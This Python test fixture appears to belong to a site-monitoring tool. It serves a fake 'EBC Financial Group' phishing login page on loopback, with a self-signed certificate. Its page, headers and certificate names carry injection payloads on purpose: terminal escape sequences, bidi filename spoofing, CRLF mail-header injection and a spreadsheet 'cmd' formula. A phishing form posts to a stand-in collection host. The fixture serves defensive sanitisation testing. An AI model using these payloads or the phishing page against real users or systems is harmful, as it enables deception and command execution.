"""A site on loopback that puts what acts on terminals, mails and logs into every place where a site can say something."""

from __future__ import annotations

import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

from monitor import clock

HOST = "ebc-login.hostile-names.top"
#: a colour, a window's title, a link, a cleared screen (ECMA-48, OSC 8), the same in 8-bit controls, letters turned around (UAX #9), ends of lines and NUL
POISON = "\x1b[45;5m\x1b]0;owned\x07\x1b]8;;https://evil.example/\x1b\\x\x1b[2J\x9b45m\x90q\x9c\u202egpj.exe\u2066\u2028\r\nBcc: all@evil.example\r\n\x00\x7f\x08"
CELL = "=cmd|'/c calc'!A0"
PAGE = f"""<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>{CELL}{POISON} EBC Financial Group official login</title>
<meta name="description" content="{CELL}{POISON} EBC Financial Group"><meta property="og:site_name" content="EBC Financial Group {POISON}">
<link rel="icon" href="/icon{POISON}.png"><meta name="generator" content="{POISON}">
</head><body><h1>EBC Financial Group {POISON}</h1>
<form action="https://collect.example/{POISON}" method="post{POISON}"><label>Password {POISON}<input type="password" name="p{POISON}"></label>
<label>Bank card number {POISON}<input name="card"></label><button>Log in to EBC {POISON}</button></form>
<a href="https://t.me/ebc_agent{POISON}">Telegram {POISON}</a> <a href="mailto:help{POISON}@evil.example">write {POISON}</a>
<a href="/{POISON}.apk">EBC MT5 download {POISON}</a>
<p>Telegram: @ebc_agent_7 {POISON} WhatsApp +44 7700 900123 {POISON}</p>
<img src="/logo{POISON}.png" alt="EBC Financial Group {POISON}"><iframe src="/frame{POISON}"></iframe>
<footer>Copyright 2026 EBC Financial Group {POISON}</footer></body></html>""".encode()


@contextmanager
def hostile_site(folder: Path) -> Iterator[tuple[int, int]]:
    """It listens on these two ports of loopback, for HTTP and with a certificate of its own making for HTTPS, until the block ends."""
    with _listening(None) as port, _listening(_context(folder)) as tls_port:
        yield port, tls_port


@contextmanager
def _listening(tls: ssl.SSLContext | None) -> Iterator[int]:
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with suppress(OSError):
            while True:
                caller, _ = listener.accept()
                threading.Thread(target=_answer, args=(caller, tls), daemon=True).start()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join(10)


def _answer(caller: socket.socket, tls: ssl.SSLContext | None) -> None:
    with suppress(OSError), caller:
        caller.settimeout(10)
        talk = tls.wrap_socket(caller, server_side=True) if tls else caller
        with talk:
            asked = b""
            while b"\r\n\r\n" not in asked and (more := talk.recv(65536)):
                asked += more
            talk.sendall(answer(asked.split(b" ")[1] if b" " in asked else b"/"))


def answer(path: bytes) -> bytes:
    """What it says at `path`: first it leads elsewhere, then comes the page."""
    flat = POISON.replace("\r", "").replace("\n", "").replace("\x00", "").encode()
    poisoned = b"X-Poison: " + flat + b"\r\nServer: " + flat + b"\r\nSet-Cookie: a=" + flat + b"\r\n"
    if path == b"/":
        return (
            b"HTTP/1.1 302 \x1b[45;5mFound\r\nLocation: /cn/\x1b[45;5m\xe2\x80\xae=cmd\r\n"
            + poisoned
            + b"Content-Length: 0\r\nConnection: close\r\n\r\n"
        )
    kind = b"text/html; charset=utf-8"
    head = b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\n%sContent-Length: %d\r\nConnection: close\r\n\r\n"
    return head % (kind, poisoned, len(PAGE)) + PAGE


def _context(folder: Path) -> ssl.SSLContext:
    key, now = ec.generate_private_key(ec.SECP256R1()), clock.now()
    names = x509.Name(
        [
            x509.NameAttribute(
                NameOID.COMMON_NAME, "EBC \x1b[45;5m\x1b]8;;https://evil.example/\x1b\\x\x9b2J\u202e\r\n"
            ),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "\x1b[45;5m\u202e" + CELL),
        ]
    )
    hosts = [x509.DNSName(HOST), x509.DNSName("a\x1b[2J\r\n.example"), x509.DNSName("*.example")]
    certificate = (
        x509.CertificateBuilder()
        .subject_name(names)
        .issuer_name(names)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=2))
        .not_valid_after(now + timedelta(days=80))
        .add_extension(x509.SubjectAlternativeName(hosts), critical=False)
        .sign(key, hashes.SHA256())
    )
    file = folder / "hostile.pem"
    private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    file.write_bytes(private + certificate.public_bytes(Encoding.PEM))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file)
    return context
